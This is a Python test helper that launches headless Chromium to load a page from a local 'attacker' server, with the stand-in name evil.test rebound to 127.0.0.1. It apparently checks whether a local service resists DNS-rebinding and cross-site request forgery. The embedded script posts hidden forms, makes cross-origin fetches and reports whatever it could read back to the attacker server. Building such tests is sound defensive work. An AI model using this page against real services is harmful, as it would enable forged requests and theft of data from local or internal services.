"""A real browser, without a window, that opens a page of an attacker's; and the attacker's server."""

import json
import os
import shutil
import signal
import subprocess
import tempfile
import threading
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Final

import pytest

from tests.patience import PATIENCE_S

REBOUND: Final = "evil.test"
"""A name of the attacker's, which he has bound to this machine."""
_WITHIN_S: Final = 90.0
_QUIETLY: Final = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"),
    *("--disable-background-networking", "--disable-component-update", "--disable-dev-shm-usage"),
    f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1",
)
_PAGE: Final = """<!doctype html><title>kittens</title><body><script>
const plan = PLAN;
function submit(form, number) {
  return new Promise(done => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.name = "frame" + number;
    const made = document.body.appendChild(document.createElement("form"));
    Object.assign(made, {method: "POST", action: form.url, enctype: form.enctype, target: frame.name});
    const input = made.appendChild(document.createElement("input"));
    Object.assign(input, {name: form.name, value: form.value});
    frame.onload = done;
    setTimeout(done, 4000);
    made.submit();
  });
}
async function read(url) {
  try { return await (await fetch(url)).text(); } catch (error) { return null; }
}
(async () => {
  await Promise.all(plan.forms.map(submit));
  for (const form of plan.forms)
    for (const type of ["text/plain", "application/json"])
      await fetch(form.url, {method: "POST", mode: type == "text/plain" ? "no-cors" : "cors",
                             headers: {"content-type": type}, body: form.name + form.value}).catch(() => null);
  await Promise.all(plan.reads.map(url => new Promise(done => {
    Object.assign(new Image(), {onload: done, onerror: done, src: url});
    setTimeout(done, 4000);
  })));
  const seen = {};
  for (const url of plan.reads) seen[url] = await read(url);
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""


@dataclass(frozen=True)
class Form:
    """One field, posted as a page's form posts it. With ``text/plain`` its name, ``=`` and its value are the body."""

    url: str
    name: str = "x"
    value: str = "y"
    enctype: str = "application/x-www-form-urlencoded"


@dataclass
class Attacker:
    """Serves his page at a port of his own; ``read``: what it could read, by URL."""

    port: int = 0
    page: str = ""
    read: Mapping[str, str | None] = field(default_factory=dict)
    reported: threading.Event = field(default_factory=threading.Event)


def browser() -> str:
    """The browser; the test is skipped where there is none."""
    found = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if found is None:
        pytest.skip("no Chromium is installed here: on Debian, sudo apt-get install chromium")
    return found


def attack(host: str, forms: Sequence[Form], reads: Sequence[str]) -> Mapping[str, str | None]:
    """Have the browser open the attacker's page under ``host``; what the page could read, None where nothing."""
    program = browser()
    plan = json.dumps({"forms": [vars(form) for form in forms], "reads": list(reads)})
    with _attacker(_PAGE.replace("PLAN", plan.replace("<", "\\u003c"))) as attacker:
        with _opened(program, [f"http://{host}:{attacker.port}/"]):
            assert attacker.reported.wait(_WITHIN_S), "the page did not come to its end"
        return attacker.read


def shown(url: str) -> str:
    """What the browser gets under this URL: just what a page of the same origin could read."""
    with tempfile.TemporaryDirectory() as profile:
        command = [browser(), *_QUIETLY, f"--user-data-dir={profile}", "--dump-dom", url]
        return subprocess.run(command, capture_output=True, text=True, timeout=_WITHIN_S, check=False).stdout


@contextmanager
def _opened(program: str, arguments: Sequence[str]) -> Iterator[None]:
    profile = Path(tempfile.mkdtemp())
    command = [program, *_QUIETLY, f"--user-data-dir={profile}", "--remote-debugging-port=0", *arguments]
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait(PATIENCE_S)
        shutil.rmtree(profile, ignore_errors=True)


@contextmanager
def _attacker(page: str) -> Iterator[Attacker]:
    state = Attacker(page=page)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(state.page.encode())

        def do_POST(self) -> None:
            state.read = json.loads(self.rfile.read(int(self.headers["content-length"])))
            self._answer(b"")
            state.reported.set()

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            """Quiet."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        state.port = server.server_address[1]
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
        thread.start()
        try:
            yield state
        finally:
            server.shutdown()
            thread.join(5)
